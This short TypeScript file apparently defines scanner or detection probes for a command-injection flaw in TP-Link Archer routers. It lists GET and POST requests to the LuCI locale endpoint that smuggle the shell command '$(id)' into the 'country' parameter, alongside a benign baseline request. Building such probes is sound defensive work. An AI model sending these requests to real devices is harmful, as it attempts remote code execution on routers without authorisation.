import { type Proof, get, post, proof } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof(
    'tp-link-archer-rce',
    [
      get('/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)'),
      post('/cgi-bin/luci/;stok=/locale?form=country', 'operation=write&country=$(id)'),
    ],
    get('/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=US'),
  ),
]
